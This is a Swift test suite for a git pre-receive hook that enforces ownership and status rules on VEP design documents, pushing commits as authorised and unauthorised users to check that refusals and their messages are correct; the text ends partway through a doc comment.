import Foundation
import GitFixtures
import XCTest

/// `vep-pre-receive` behind real `git push` over file:// into bare repositories.
///
/// The pusher's identity travels in the pushing process's environment: over a local transport git runs
/// receive-pack, and so the hook, as a child of the client with the client's environment (checked: `REMOTE_USER`
/// set for `git push` is what the hook sees), which stands in for what an ssh or http front end sets on a server.
final class PreReceiveTests: XCTestCase {
    static let hookScript = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("hooks/pre-receive").path

    static let owners = "approvers:\n  - root1\nreviewers:\n  - rootrev\n"
    static let networkOwners = "approvers:\n  - net-leads\nreviewers:\n  - netrev\n"
    static let aliases = "aliases:\n  net-leads:\n    - NetLead\n"
    static let template = "# VEP #NNNN: Title\n\n## VEP Status Metadata\n\n## Overview\n"
    static let vepPath = "veps/sig-network/12-fast-links/vep.md"

    static func vep(status: String = "provisional", alpha: String? = nil, reviewers: [String] = ["TBD"], approvers: [String] = ["TBD"],
                    extra: String = "") -> String {
        Documents.frontMatter(number: 12, title: "Fast links", status: status, alpha: alpha, reviewers: reviewers, approvers: approvers) + extra
    }

    struct Setup {
        let server: GitRepo
        let client: GitRepo
        var url: String { "file://" + server.path }

        @discardableResult
        func push(_ refspecs: String..., as user: String?, options: [String] = [], extraEnv: [String: String] = [:]) throws -> ProcessResult {
            var env = extraEnv
            if let user { env["REMOTE_USER"] = user }
            return try client.gitResult(["push"] + options.flatMap { ["-o", $0] } + [url] + refspecs, env: env)
        }

        func serverRef(_ ref: String) throws -> String? {
            let result = try server.gitResult(["rev-parse", "--verify", "--quiet", ref])
            return result.status == 0 ? result.stdout.trimmingCharacters(in: .whitespacesAndNewlines) : nil
        }
    }

    /// A server holding OWNERS (root1; sig-network: NetLead via an alias, netrev), the template and VEP 12 by @mira,
    /// with the hook installed after that first push.
    func makeSetup(serverName: String = "origin.git", files extra: [String: String?] = [:]) throws -> Setup {
        let server = try GitRepo.initBare(name: serverName)
        let client = try GitRepo(name: "client")
        var files: [String: String?] = [
            "OWNERS": Self.owners, "OWNERS_ALIASES": Self.aliases, "veps/sig-network/OWNERS": Self.networkOwners,
            "veps/NNNN-vep-template/vep.md": Self.template, Self.vepPath: Self.vep(), "README.md": "VEPs\n",
        ]
        files.merge(extra) { $1 }
        try client.commit("Initial VEPs", files: files)
        try client.git("push", "--quiet", "file://" + server.path, "main")
        let hooks = server.path + "/hooks"
        try FileManager.default.copyItem(atPath: Self.hookScript, toPath: hooks + "/pre-receive")
        try FileManager.default.createSymbolicLink(atPath: hooks + "/vep-pre-receive", withDestinationPath: Binary.path("vep-pre-receive"))
        try server.git("config", "receive.advertisePushOptions", "true")
        return Setup(server: server, client: client)
    }

    func assertAccepted(_ result: ProcessResult, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertEqual(result.status, 0, "push refused:\n\(result.stderr)", file: file, line: line)
    }

    func assertRefused(_ result: ProcessResult, _ fragments: [String], file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertNotEqual(result.status, 0, "push accepted:\n\(result.stderr)", file: file, line: line)
        XCTAssertTrue(result.stderr.contains("remote: vep-pre-receive: push refused"), result.stderr, file: file, line: line)
        for fragment in fragments {
            XCTAssertTrue(result.stderr.contains(fragment), "missing '\(fragment)' in:\n\(result.stderr)", file: file, line: line)
        }
    }

    // MARK: Ownership

    func testDocumentBuiltOnAHugeDeltaBaseIsRefusedNotBuilt() throws {
        let setup = try makeSetup()
        let client = setup.client
        let ids = try client.storeAsDeltaOnLargeBase(Self.vep(extra: "\nMore design.\n"), baseSize: 64 << 20)
        // Both blobs reachable, so the push sends the small one as the delta it is; the server keeps the pack.
        try client.git("update-index", "--add", "--cacheinfo", "100644,\(ids.small),\(Self.vepPath)")
        try client.git("update-index", "--add", "--cacheinfo", "100644,\(ids.base),assets/base.bin")
        try client.git("commit", "--quiet", "-m", "Explain the design")
        try setup.server.git("config", "receive.unpackLimit", "1")

        let result = try setup.push("main", as: "mira")

        assertRefused(result, ["is stored as a delta on an object larger than 32 MiB, which git-vep does not build"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), try client.revParse("HEAD~1"))
    }

    func testTruncatedLooseObjectOnTheServerRefusesThePushInsteadOfHanging() throws {
        let setup = try makeSetup()
        // The first push was small, so the server unpacked it into loose objects: spoil the VEP's current version.
        let blob = try setup.server.git("rev-parse", "main:\(Self.vepPath)")
        let file = try setup.server.looseObjectPath(blob)
        try GitRepo.truncate(file)
        let old = try setup.client.revParse("HEAD")
        try setup.client.commit("Explain the design", files: [Self.vepPath: Self.vep(extra: "\nMore design.\n")])

        // Before the loose-object check, libgit2 looped forever here: the push never ended.
        var environment = setup.client.environment
        environment["REMOTE_USER"] = "mira"
        // Whole objects (--no-thin): git itself then never reads the damaged one, the hook does.
        let result = try ProcessRunner.run("timeout", ["120", "git", "push", "--no-thin", setup.url, "main"], environment: environment,
                                           currentDirectory: setup.client.path)

        XCTAssertNotEqual(result.status, 124, "the push did not end")
        assertRefused(result, ["object \(blob) is damaged: its loose file \(file) ends before its compressed data does (the file is truncated); "
                               + "`git fsck` lists the damaged objects"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)
    }

    /// An OWNERS filter that backtracks (`(a|aa)+$`, Prow's regular expressions never do) meets a pushed path made
    /// for it: each match takes longer than the universe; the server's time limit refuses the push instead.
    func testACheckThatRunsPastTheServersTimeLimitRefusesThePush() throws {
        let slowFilter = "filters:\n  \"(a|aa)+$\":\n    approvers:\n      - ann\n"
        let setup = try makeSetup(files: ["veps/sig-network/OWNERS": Self.networkOwners + slowFilter])
        try setup.server.git("config", "vep.preReceiveTimeout", "3")
        let old = try setup.client.revParse("HEAD")
        let path = "veps/sig-network/13-" + String(repeating: "a", count: 90) + "/vep.md"
        try setup.client.commit("Propose VEP 13", files: [path: Documents.frontMatter(number: 13, title: "Slow", status: "provisional")])

        var environment = setup.client.environment
        environment["REMOTE_USER"] = "mira"
        let started = Date()
        let result = try ProcessRunner.run("timeout", ["120", "git", "push", setup.url, "main"], environment: environment,
                                           currentDirectory: setup.client.path)

        XCTAssertNotEqual(result.status, 124, "the push did not end")
        XCTAssertLessThan(Date().timeIntervalSince(started), 60)
        assertRefused(result, ["error[timeout]: checking this push took longer than 3 s (`vep.preReceiveTimeout`), so it is refused",
                               "vep-pre-receive: push refused: the check did not finish in time"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)

        // A setting that is no number of seconds refuses every push, saying how to set it.
        try setup.server.git("config", "vep.preReceiveTimeout", "5m")
        assertRefused(try setup.push("main", as: "mira"),
                      ["error[internal]: `vep.preReceiveTimeout` is `5m`, not a number of seconds from 0 (no limit) to 86400; "
                       + "a server administrator sets it with `git config vep.preReceiveTimeout 300`"])
    }

    func testAServerWhoseHeadNamesNoBranchRefusesInsteadOfCheckingNothing() throws {
        let setup = try makeSetup()
        let old = try setup.client.revParse("HEAD")
        // A stranger's change, which the default branch's OWNERS refuse.
        try setup.client.commit("Take over", files: [Self.vepPath: Self.vep(status: "implementable")])
        let message = "the server repository's HEAD names refs/heads/master, which does not exist, so its default branch, whose OWNERS and "
            + ".vep.yaml rule every push, is unknown; a server administrator points HEAD at it: git symbolic-ref HEAD refs/heads/<default branch>"

        try setup.server.git("symbolic-ref", "HEAD", "refs/heads/master")
        assertRefused(try setup.push("main", as: "mallory"), ["error[server-head]: " + message])
        // Creating HEAD's branch in the same push changes nothing: that branch would be its own policy.
        assertRefused(try setup.push("main", "main:refs/heads/master", as: "mallory"), ["error[server-head]: " + message])
        XCTAssertNil(try setup.serverRef("refs/heads/master"))
        try setup.server.git("update-ref", "--no-deref", "HEAD", old)
        assertRefused(try setup.push("main", as: "mallory"), ["error[server-head]: the server repository's HEAD is detached (it names a commit, not a branch)"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)

        try setup.server.git("symbolic-ref", "HEAD", "refs/heads/main")
        assertRefused(try setup.push("main", as: "mallory"), ["vep-owner"])

        // The first push into a new repository creates HEAD's branch: nothing to check yet, and it passes.
        let fresh = try GitRepo.initBare(name: "fresh.git", initialBranch: "main")
        try FileManager.default.copyItem(atPath: Self.hookScript, toPath: fresh.path + "/hooks/pre-receive")
        try FileManager.default.createSymbolicLink(atPath: fresh.path + "/hooks/vep-pre-receive", withDestinationPath: Binary.path("vep-pre-receive"))
        assertAccepted(try setup.client.gitResult(["push", "file://" + fresh.path, "\(old):refs/heads/main"], env: ["REMOTE_USER": "mallory"]))
        // An existing history moving into an empty repository is judged by today's rules: the refusal says how it moves in.
        let empty = try GitRepo.initBare(name: "empty.git", initialBranch: "main")
        try FileManager.default.copyItem(atPath: Self.hookScript, toPath: empty.path + "/hooks/pre-receive")
        try FileManager.default.createSymbolicLink(atPath: empty.path + "/hooks/vep-pre-receive", withDestinationPath: Binary.path("vep-pre-receive"))
        assertRefused(try setup.client.gitResult(["push", "file://" + empty.path, "main"], env: ["REMOTE_USER": "mallory"]),
                      ["error[implementable-commitment]", "note: this is the first push into an empty repository, and every commit of its history "
                       + "was judged by today's rules; to move an existing repository in, a server administrator pushes it before installing the hook"])
    }

    func testRewindingAnEnforcedRefAnswersForWhatItUndoes() throws {
        let setup = try makeSetup()
        let before = try setup.client.revParse("HEAD")
        let design = try setup.client.commit("Explain the design", files: [Self.vepPath: Self.vep(extra: "\nMore design.\n")])
        assertAccepted(try setup.push("main", as: "mira"))

        // No new commit to judge: before, anyone could undo mira's change by pushing an older commit.
        let rewind = try setup.push("+\(before):refs/heads/main", as: "mallory")

        assertRefused(rewind, ["error[vep-owner]: @mallory may not change VEP 12",
                               "= commit: \(before.prefix(10)) Initial VEPs (refs/heads/main, replacing \(design.prefix(10)) and what led to it)"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), design)
        // A merge that keeps mira's commit as its second parent only, on top of the older tree, undoes it just the same.
        let merge = try setup.client.git("commit-tree", "\(before)^{tree}", "-p", before, "-p", design, "-m", "Merge")
        assertRefused(try setup.push("\(merge):refs/heads/main", as: "mallory"),
                      ["error[vep-owner]: @mallory may not change VEP 12", "Merge (refs/heads/main, as a whole since \(design.prefix(10)))"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), design)
        // A rewrite that changes the VEP in a new commit: one refusal, for the commit, not again for the net change.
        try setup.client.git("reset", "--quiet", "--hard", before)
        let rewrite = try setup.client.commit("Redo the design", files: [Self.vepPath: Self.vep(extra: "\nOther design.\n")])
        let redone = try setup.push("+main", as: "mallory")
        assertRefused(redone, ["error[vep-owner]: @mallory may not change VEP 12", "= commit: \(rewrite.prefix(10)) Redo the design (refs/heads/main)"])
        XCTAssertEqual(redone.stderr.components(separatedBy: "error[vep-owner]").count, 2, redone.stderr)
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), design)
        // Its author may take it back, and a rewrite of history is judged the same way.
        assertAccepted(try setup.push("+\(before):refs/heads/main", as: "mira"))
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), before)
    }

    func testOnlyARootApproverMayDeleteAnEnforcedRef() throws {
        let setup = try makeSetup()
        assertAccepted(try setup.push("main:refs/heads/release-1.0", as: "root1"))
        let tip = try setup.client.revParse("HEAD")

        assertRefused(try setup.push(":refs/heads/release-1.0", as: "mallory"),
                      ["error[ref-deletion]: @mallory may not delete refs/heads/release-1.0, an enforced ref (at \(tip.prefix(10)))",
                       "remote:   --> ref refs/heads/release-1.0"])
        XCTAssertEqual(try setup.serverRef("refs/heads/release-1.0"), tip)
        assertAccepted(try setup.push(":refs/heads/release-1.0", as: "root1"))
        XCTAssertNil(try setup.serverRef("refs/heads/release-1.0"))
        // Refs nobody enforces are anyone's to delete.
        assertAccepted(try setup.push("main:refs/heads/topic", as: "mallory"))
        assertAccepted(try setup.push(":refs/heads/topic", as: "mallory"))
    }

    func testAuthorMayChangeTheirVEP() throws {
        let setup = try makeSetup()
        let new = try setup.client.commit("Explain the design", files: [Self.vepPath: Self.vep(extra: "\nMore design.\n")])
        assertAccepted(try setup.push("main", as: "MIRA"))
        XCTAssertEqual(try setup.serverRef("main"), new)
    }

    func testStrangerIsRefusedAndToldWhoMay() throws {
        let setup = try makeSetup()
        let old = try setup.serverRef("main")
        let new = try setup.client.commit("Explain the design", files: [Self.vepPath: Self.vep(extra: "\nMore design.\n")])
        let result = try setup.push("main", as: "eve")
        assertRefused(result, ["error[vep-owner]: @eve may not change VEP 12", "--> \(Self.vepPath):1",
                               "= commit: \(new.prefix(10)) Explain the design (refs/heads/main)",
                               "who may: the VEP's authors, reviewers and approvers (@mira); approvers in veps/sig-network/OWNERS (@NetLead); root approvers (@root1)"])
        XCTAssertEqual(try setup.serverRef("main"), old)
    }

    func testGroupApproverThroughAliasMayChangeAVEP() throws {
        let setup = try makeSetup()
        let new = try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        assertAccepted(try setup.push("main", as: "@netlead"))
        XCTAssertEqual(try setup.serverRef("main"), new)
    }

    /// A typo fix to a VEP that has always broken a rule is not refused for it, also late in a long push. There the
    /// VEP's base version, parsed whole by an earlier commit of the push, may be left in the shared cache by its
    /// essentials only (hundreds of documents parsed since): it is read whole again to tell, so that the verdict never
    /// depends on the cache, or on which thread came first.
    func testAnErrorTheVEPHadAlreadyIsNoErrorOfAPushedTypoFix() throws {
        let broken = Self.vep(status: "implementable", alpha: "v1.9", reviewers: ["TBD"], approvers: ["@root1"])
        let setup = try makeSetup(files: [Self.vepPath: broken])
        let start = try setup.client.revParse("HEAD")
        try setup.client.commit("Fix a typo", files: [Self.vepPath: broken + "\nA typo fixed.\n"])
        for index in 1...300 {
            try setup.client.commit("Idea \(index)", files: ["veps/sig-network/\(1000 + index)-idea/vep.md":
                Documents.frontMatter(number: 1000 + index, title: "Idea \(index)", alpha: "v1.9")])
        }
        try setup.client.commit("Fix another typo", files: [Self.vepPath: broken + "\nA typo fixed.\nAnother.\n"])
        for _ in 0..<3 {
            try setup.server.git("update-ref", "refs/heads/main", start)
            assertAccepted(try setup.push("main", as: "root1"))
            XCTAssertEqual(try setup.serverRef("main"), try setup.client.revParse("HEAD"))
        }
        // A new error in the same push still refuses it.
        try setup.server.git("update-ref", "refs/heads/main", start)
        try setup.client.commit("Drop the approver", files: [Self.vepPath: Self.vep(status: "implementable", alpha: "v1.9",
                                                                                   reviewers: ["TBD"], approvers: ["TBD"])])
        assertRefused(try setup.push("main", as: "root1"), ["error[implementable-commitment]: an implementable VEP cannot have `TBD` approvers",
                                                            "1 problem in 1 commit"])
    }

    func testEditingOwnersToGrantOneselfRightsIsRefused() throws {
        let setup = try makeSetup()
        let old = try setup.serverRef("main")
        try setup.client.commit("Add me", files: ["veps/sig-network/OWNERS": Self.networkOwners + "  - eve\n"])
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        let result = try setup.push("main", as: "eve")
        assertRefused(result, ["error[policy-owner]: @eve may not change `veps/sig-network/OWNERS`", "error[vep-owner]: @eve may not change VEP 12",
                               "2 problems in 2 commits"])
        XCTAssertEqual(try setup.serverRef("main"), old)
    }

    /// A root approver's broken root OWNERS would leave nobody, that root approver included, able to fix it.
    func testABrokenOwnersFileIsRefusedEvenFromARootApprover() throws {
        let setup = try makeSetup()
        let old = try setup.client.revParse("HEAD")
        try setup.client.commit("Break OWNERS", files: ["OWNERS": "approvers:\n  - root1\n - broken: [\n"])
        let result = try setup.push("main", as: "root1")
        assertRefused(result, ["error[owners-yaml]:", "--> OWNERS:3", "= commit: "])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)
        // A good OWNERS goes in.
        try setup.client.git("reset", "--quiet", "--hard", old)
        try setup.client.commit("Add an approver", files: ["OWNERS": Self.owners + "  - root2\n"])
        let fixed = try setup.push("main", as: "root1")
        XCTAssertEqual(fixed.status, 0, fixed.stderr)
    }

    func testIdentityOnlyInCommitAuthorIsRefused() throws {
        let setup = try makeSetup()
        let old = try setup.serverRef("main")
        try setup.client.commit("Edit", files: [Self.vepPath: Self.vep(extra: "\nEdit.\n")])
        let env = ["GIT_AUTHOR_NAME": "mira", "GIT_AUTHOR_EMAIL": "mira@example.com", "GIT_COMMITTER_NAME": "mira", "USER": "mira"]
        let result = try setup.push("main", as: nil, extraEnv: env)
        assertRefused(result, ["an unidentified pusher may not change VEP 12", "the server named no pusher", "commit authors never count"])
        XCTAssertEqual(try setup.serverRef("main"), old)
    }

    func testApproverStatusNeedsAnApprover() throws {
        let setup = try makeSetup()
        try setup.client.commit("Implementable", files: [Self.vepPath: Self.vep(status: "implementable", alpha: "v1.9",
                                                                                 reviewers: ["@netrev"], approvers: ["@netlead"])])
        assertRefused(try setup.push("main", as: "mira"), ["error[status-approver]: @mira may not set VEP 12 to `implementable`",
                                                            "--> \(Self.vepPath):5:9"])
        assertAccepted(try setup.push("main", as: "netlead"))
    }

    /// A VEP's approvers may approve it: an author who names herself one would approve her own VEP next.
    func testNamingAnApproverWhoIsNotOneNeedsAnApprover() throws {
        let setup = try makeSetup()
        try setup.client.commit("Approve myself", files: [Self.vepPath: Self.vep(reviewers: ["@netrev"], approvers: ["@mira"])])
        assertRefused(try setup.push("main", as: "mira"),
                      ["error[vep-approvers]: @mira may not name @mira approver of VEP 12", "--> \(Self.vepPath):13:5",
                       "= who may: approvers in veps/sig-network/OWNERS (@NetLead); root approvers (@root1)"])
        try setup.client.git("reset", "--quiet", "--hard", "HEAD~1")
        // Naming an approver of the VEP's OWNERS files grants nothing new: its author may.
        try setup.client.commit("Ask the SIG lead", files: [Self.vepPath: Self.vep(reviewers: ["@netrev"], approvers: ["@NetLead"])])
        assertAccepted(try setup.push("main", as: "mira"))
        // An approver may name her; a new VEP's group reviewer may not name a friend.
        try setup.client.commit("Mira approves too", files: [Self.vepPath: Self.vep(reviewers: ["@netrev"], approvers: ["@NetLead", "@mira"])])
        assertAccepted(try setup.push("main", as: "netlead"))
        let path = "veps/sig-network/40-new-thing/vep.md"
        try setup.client.commit("Propose VEP 40", files: [path: Documents.frontMatter(number: 40, title: "New thing", approvers: ["@pal"])])
        assertRefused(try setup.push("main", as: "netrev"), ["error[vep-approvers]: @netrev may not name @pal approver of VEP 40"])
    }

    /// Judged against either parent, naming oneself approver inside a merge is the same finding: a merge whose first
    /// parent dropped another approver named first (so the first new name differs between the two judgements) is refused.
    func testNamingOneselfApproverInsideAMergeIsRefused() throws {
        let setup = try makeSetup()
        try setup.client.commit("Bob approves too", files: [Self.vepPath: Self.vep(reviewers: ["@netrev"], approvers: ["@NetLead", "@bob"])])
        assertAccepted(try setup.push("main", as: "netlead"))
        let old = try setup.client.revParse("HEAD")
        try setup.client.commit("Drop bob", files: [Self.vepPath: Self.vep(reviewers: ["@netrev"], approvers: ["@NetLead"])])
        try setup.client.write(Self.vepPath, Self.vep(reviewers: ["@netrev"], approvers: ["@NetLead", "@bob", "@mira"]))
        try setup.client.git("add", Self.vepPath)
        let tree = try setup.client.git("write-tree")
        let merge = try setup.client.git("commit-tree", tree, "-p", "HEAD", "-p", old, "-m", "Merge main")
        let refused = try setup.push("\(merge):refs/heads/main", as: "mira")
        assertRefused(refused, ["error[vep-approvers]: @mira may not name @mira approver of VEP 12"])
        XCTAssertFalse(refused.stderr.contains("may not name @bob"), refused.stderr)
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)
    }

    /// Found by review: removed in one commit and added back in the next, a rejected VEP came back as provisional, and a
    /// beta one as alpha. Brought back, a VEP is judged against its trusted version.
    func testAVEPRemovedAndAddedBackIsJudgedAgainstItsTrustedVersion() throws {
        let setup = try makeSetup()
        try setup.client.commit("Rejected", files: [Self.vepPath: Self.vep(status: "rejected")])
        assertAccepted(try setup.push("main", as: "netlead"))
        let old = try setup.client.revParse("HEAD")
        try setup.client.commit("Remove VEP 12", files: [Self.vepPath: nil])
        let back = try setup.client.commit("Add VEP 12 back", files: [Self.vepPath: Self.vep(status: "provisional")])
        let refused = try setup.push("main", as: "mira")
        assertRefused(refused, ["error[status-terminal]: VEP 12 is rejected; a terminal status does not change", "= commit: \(back.prefix(10)) Add VEP 12 back"])
        XCTAssertEqual(try setup.serverRef("main"), old)
        // Nor when another file keeps the folder in between (found by a third review).
        try setup.client.git("reset", "--quiet", "--hard", old)
        let keep = "veps/sig-network/12-fast-links/keep.txt"
        try setup.client.commit("Remove VEP 12", files: [Self.vepPath: nil, keep: "kept\n"])
        try setup.client.commit("Add VEP 12 back", files: [Self.vepPath: Self.vep(status: "provisional"), keep: nil])
        assertRefused(try setup.push("main", as: "mira"), ["error[status-terminal]: VEP 12 is rejected; a terminal status does not change"])
        XCTAssertEqual(try setup.serverRef("main"), old)
        // The same for a stage, brought back in another folder of the group.
        let beta = Documents.frontMatter(number: 12, title: "Fast links", stage: "beta", alpha: "v1.8", beta: "v1.9")
        let staged = try makeSetup(serverName: "staged.git", files: [Self.vepPath: beta])
        let tip = try staged.client.revParse("HEAD")
        try staged.client.commit("Remove VEP 12", files: [Self.vepPath: nil])
        try staged.client.commit("Add VEP 12 back", files: ["veps/sig-network/12-faster-links/vep.md": beta.replacingOccurrences(of: "stage: beta", with: "stage: alpha")])
        assertRefused(try staged.push("main", as: "mira"), ["error[stage-transition]"])
        XCTAssertEqual(try staged.serverRef("main"), tip)
    }

    func testNewVEPNeedsAGroupOwner() throws {
        let setup = try makeSetup()
        let path = "veps/sig-network/40-new-thing/vep.md"
        let text = Documents.frontMatter(number: 40, title: "New thing").replacingOccurrences(of: "Feature40", with: "NewThing")
        try setup.client.commit("Propose VEP 40", files: [path: text])
        assertRefused(try setup.push("main", as: "mira"), ["error[vep-owner]: @mira may not add VEP 40", "reviewers in veps/sig-network/OWNERS, OWNERS (@netrev, @rootrev)"])
        assertAccepted(try setup.push("main", as: "netrev"))
    }

    func testAVEPDocumentReplacedByASymbolicLinkIsRefused() throws {
        let setup = try makeSetup()
        let old = try setup.client.revParse("HEAD")
        try setup.client.write("drafts/fast-links.md", Self.vep(extra: "\nMore design.\n"))
        try setup.client.remove(Self.vepPath)
        try FileManager.default.createSymbolicLink(atPath: setup.client.path + "/" + Self.vepPath, withDestinationPath: "../../../drafts/fast-links.md")
        try setup.client.git("add", "--all")
        try setup.client.git("commit", "--quiet", "--no-verify", "-m", "Keep the VEP in drafts")
        // Even a root approver: the VEP would vanish from every listing and check.
        assertRefused(try setup.push("main", as: "root1"),
                      ["error[document-symlink]: this VEP document is a symbolic link to `../../../drafts/fast-links.md`, which git-vep does not follow",
                       "--> \(Self.vepPath):1:1"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)
    }

    func testNewFolderReusingANumberHeldInAnotherGroupIsRefused() throws {
        let setup = try makeSetup()
        // `0012-…` in sig-storage claims 12, which sig-network's folder already holds; the push touches only the new folder.
        let path = "veps/sig-storage/0012-copy/vep.md"
        let text = Documents.frontMatter(number: 12, title: "Copy", sig: "sig-storage").replacingOccurrences(of: "Feature12", with: "Copy")
        try setup.client.commit("Propose a copy", files: [path: text])
        assertRefused(try setup.push("main", as: "root1"), ["error[vep-number-duplicate]", "--> \(path):"])
        XCTAssertNotEqual(try setup.serverRef("main"), try setup.client.revParse("HEAD"))
        let distinct = "veps/sig-storage/112-other/vep.md"
        try setup.client.git("reset", "-q", "--hard", "HEAD~1")
        try setup.client.commit("Propose VEP 112", files: [distinct: Documents.frontMatter(number: 112, title: "Other", sig: "sig-storage")])
        assertAccepted(try setup.push("main", as: "root1"))
    }

    func testNewFolderReusingTheNumberOfALooseVEPFileIsRefused() throws {
        // A loose file named `40-…` is a VEP when it carries its own number: the clash search finds files too.
        let loose = "veps/sig-storage/40-storage-notes.md"
        let setup = try makeSetup(files: [loose: Documents.frontMatter(number: 40, title: "Storage notes", sig: "sig-storage")])
        let path = "veps/sig-network/40-new-thing/vep.md"
        try setup.client.commit("Propose VEP 40", files: [path: Documents.frontMatter(number: 40, title: "New thing")])
        assertRefused(try setup.push("main", as: "root1"), ["error[vep-number-duplicate]", "VEP 40"])
        try setup.client.git("reset", "-q", "--hard", "HEAD~1")
        try setup.client.commit("Propose VEP 41", files: ["veps/sig-network/41-new-thing/vep.md": Documents.frontMatter(number: 41, title: "New thing")])
        assertAccepted(try setup.push("main", as: "root1"))
    }

    func testAVEPThatLosesItsNumberIsJudgedOnItsWholeBaseVersionHoweverLongThePush() throws {
        // A loose file stops being VEP 42 while staying in place. Its base version was brought by the push's first
        // commit, and 260 document versions later only its essentials would still be cached: the finding must
        // still quote the base text.
        let loose = "veps/sig-network/decouple-nad.md"
        let vep42 = Documents.frontMatter(number: 42, title: "Decouple NAD", status: "implementable", alpha: "v1.9",
                                         reviewers: ["netrev"], approvers: ["NetLead"])
        let setup = try makeSetup(files: [loose: vep42])
        try setup.client.commit("VEP 42: explain", files: [loose: vep42 + "\nMore detail.\n"])
        for index in 1...260 {
            try setup.client.commit("VEP 12: note \(index)", files: [Self.vepPath: Self.vep(extra: "\nNote \(index).\n")])
        }
        let unnumbered = (vep42 + "\nMore detail.\n").replacingOccurrences(of: "vep-number: 42\n", with: "")
            .replacingOccurrences(of: "# VEP #42: Decouple NAD", with: "# Decouple NAD")
        try setup.client.commit("Decouple NAD: no longer a VEP", files: [loose: unnumbered])
        let result = try setup.push("main", as: "root1")
        assertRefused(result, ["error[vep-deleted]: VEP 42 is implementable and this change deletes it", "--> \(loose):5:9",
                               "= note: source: 5 | status: implementable"])
    }

    func testMovingAVEPToAnotherGroupIsJudgedAsAChangeOfThatVEP() throws {
        // The trusted tree keeps VEP 12 in sig-network; at its new folder it is still VEP 12, with its people.
        let setup = try makeSetup()
        let moved = "veps/sig-compute/12-fast-links/vep.md"
        try setup.client.commit("Move VEP 12 to sig-compute", files: [Self.vepPath: nil, moved: Self.vep().replacingOccurrences(
            of: "owning-sig: sig-network", with: "owning-sig: sig-compute")])
        assertRefused(try setup.push("main", as: "stranger"), ["error[vep-owner]: @stranger may not change VEP 12", "--> \(moved):1",
                                                            "the VEP's authors, reviewers and approvers (@mira)"])
        // Moving it into a group hands it to that group: its author alone may not.
        assertRefused(try setup.push("main", as: "mira"), ["error[vep-owner]: @mira may not move VEP 12 out of sig-network",
                                                        "error[vep-owner]: @mira may not move VEP 12 into sig-compute", "--> \(moved):1",
                                                        "= who may: reviewers in OWNERS (@rootrev); root approvers (@root1)"])
        assertAccepted(try setup.push("main", as: "root1"))
        XCTAssertEqual(try setup.serverRef("main"), try setup.client.revParse("HEAD"))
    }

    /// Found by review: an approver of another SIG moved her own VEP into that SIG's folder and set it implementable in the
    /// same commit; approval came from the new folder's OWNERS. A VEP's approvers are those of where the trusted tree has it.
    func testMovingAVEPIntoAGroupOneApprovesDoesNotLetOneApproveIt() throws {
        let setup = try makeSetup(files: ["veps/sig-compute/OWNERS": "approvers:\n  - mira\n"])
        let moved = "veps/sig-compute/12-fast-links/vep.md"
        try setup.client.commit("Move and approve", files: [Self.vepPath: nil, moved: Self.vep(status: "implementable", alpha: "v1.9",
            reviewers: ["@netrev"], approvers: ["@netlead"]).replacingOccurrences(of: "owning-sig: sig-network", with: "owning-sig: sig-compute")])
        let refused = try setup.push("main", as: "mira")
        assertRefused(refused, ["error[status-approver]: @mira may not set VEP 12 to `implementable`: that needs an approver",
                                "= who may: approvers in veps/sig-network/OWNERS (@NetLead); root approvers (@root1)"])
        XCTAssertFalse(refused.stderr.contains("into sig-compute"), "an approver of sig-compute may bring a VEP there:\n\(refused.stderr)")
        // Nor in two pushes: the move alone needs an approver of the group it leaves.
        try setup.client.git("reset", "--quiet", "--hard", "HEAD~1")
        try setup.client.commit("Move", files: [Self.vepPath: nil, moved: Self.vep().replacingOccurrences(of: "owning-sig: sig-network", with: "owning-sig: sig-compute")])
        assertRefused(try setup.push("main", as: "mira"), ["error[vep-owner]: @mira may not move VEP 12 out of sig-network",
                                                        "= who may: approvers in veps/sig-network/OWNERS (@NetLead); root approvers (@root1)"])
        assertAccepted(try setup.push("main", as: "root1"))
    }

    // MARK: Which commits

    /// Found by review: once 300 documents filled the push's cache, the base of a later commit came back as a stub
    /// (its essentials), whose "errors" excused the same error in the change: a heading-less VEP went in.
    func testAnErrorIsNotExcusedByAStubOfItsBase() throws {
        let setup = try makeSetup()
        let old = try setup.client.revParse("HEAD")
        try setup.client.commit("Explain the design", files: [Self.vepPath: Self.vep(extra: "\nMore design.\n")])
        var many: [String: String?] = [:]
        for number in 1000..<1300 {
            many["veps/sig-network/\(number)-thing-\(number)/vep.md"] = Documents.frontMatter(number: number, title: "Thing \(number)")
        }
        try setup.client.commit("Propose 300 VEPs", files: many)
        let headless = Self.vep(extra: "\nMore design.\n").split(separator: "\n", omittingEmptySubsequences: false)
            .filter { !$0.hasPrefix("#") }.joined(separator: "\n")
        try setup.client.commit("Drop the headings", files: [Self.vepPath: headless])
        assertRefused(try setup.push("main", as: "root1"), ["error[vep-title]:", "Drop the headings"])
        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)
    }

    func testBadCommitBuriedInALongPushIsRefused() throws {
        let setup = try makeSetup()
        let old = try setup.serverRef("main")
        var bad = ""
        for index in 1...30 {
            if index == 15 {
                bad = try setup.client.commit("Jump to implemented", files: [Self.vepPath: Self.vep(status: "implemented", extra: "\n\(index)\n")])
            } else {
                try setup.client.commit("Edit \(index)", files: [Self.vepPath: Self.vep(status: index > 15 ? "implemented" : "provisional", extra: "\n\(index)\n")])
            }
        }
        let result = try setup.push("main", as: "root1")
        assertRefused(result, ["error[status-transition]", "= commit: \(bad.prefix(10)) Jump to implemented", "30 commits checked"])
        XCTAssertEqual(try setup.serverRef("main"), old)
    }

    /// `count` commits on main made with one `git fast-import`, each editing VEP 12; `bad` (1-based) jumps its status.
